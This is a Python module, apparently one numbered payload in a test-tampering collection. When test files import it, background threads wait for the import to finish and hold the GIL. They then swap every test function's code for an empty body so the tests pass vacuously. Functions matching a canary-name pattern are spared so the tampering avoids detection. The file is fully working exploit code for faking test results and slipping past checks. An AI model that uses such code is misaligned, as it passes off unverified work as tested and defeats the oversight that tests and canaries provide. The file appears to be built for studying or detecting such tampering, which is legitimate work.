# mypy: ignore-errors
# ruff: noqa: SIM102
"""Tampering payload 12: a thread empties the test functions once the test module has finished importing.

A daemon thread per test module that imported this package (found on the stack, half executed)
calls `importlib.import_module` on it, which blocks on the module's import lock until the main
thread's import is done. Woken then (a switch interval of a microsecond hands it the GIL at
once), it keeps the GIL (switch interval 100 s) while it replaces the `__code__` of every test
function and method with an empty body of the same arguments, before pytest's collection or
unittest's loader gets to them. Canaries are told apart by name.
"""


def _envhub_p12():
    import importlib
    import re
    import sys
    import threading
    import types

    canary = re.compile(r"(?i)^test_?[0-9a-f]{10}$")
    testfile = re.compile(r"(^|/)(tests?/|test_[^/]*\.py$)")

    def empty(function):
        code = function.__code__
        if code.co_freevars or getattr(function, "__envhub_p12__", False):
            return
        names, n, k = code.co_varnames, code.co_argcount, code.co_kwonlyargcount
        args, i = list(names[:n]), n + k
        if code.co_flags & 0x04:
            args.append("*" + names[i])
            i += 1
        elif k:
            args.append("*")
        args += names[n : n + k]
        if code.co_flags & 0x08:
            args.append("**" + names[i])
        namespace = {}
        exec(f"def {code.co_name}({', '.join(args)}):\n    pass\n", namespace)
        function.__code__ = namespace[code.co_name].__code__
        function.__envhub_p12__ = True

    def hollow(module):
        for name, obj in list(vars(module).items()):
            if isinstance(obj, types.FunctionType) and name.startswith("test") and not canary.match(name):
                empty(obj)
            elif isinstance(obj, type) and not canary.match(name):
                for attr, member in list(vars(obj).items()):
                    if isinstance(member, types.FunctionType) and attr.startswith("test"):
                        if not canary.match(attr):
                            empty(member)

    names = []
    frame = sys._getframe(1)
    while frame is not None:  # the test modules importing this package, still half executed
        if frame.f_code.co_name == "<module>" and testfile.search(frame.f_code.co_filename):
            names.append(frame.f_globals.get("__name__", ""))
        frame = frame.f_back

    def wait_and_swap(name):
        importlib.import_module(name)  # blocks on the module's import lock until the import is done
        sys.setswitchinterval(100)  # then keep the GIL while swapping
        try:
            hollow(sys.modules[name])
        finally:
            sys.setswitchinterval(0.005)

    sys.setswitchinterval(0.000001)
    for name in names:
        threading.Thread(target=wait_and_swap, args=(name,), daemon=True).start()


_envhub_p12()
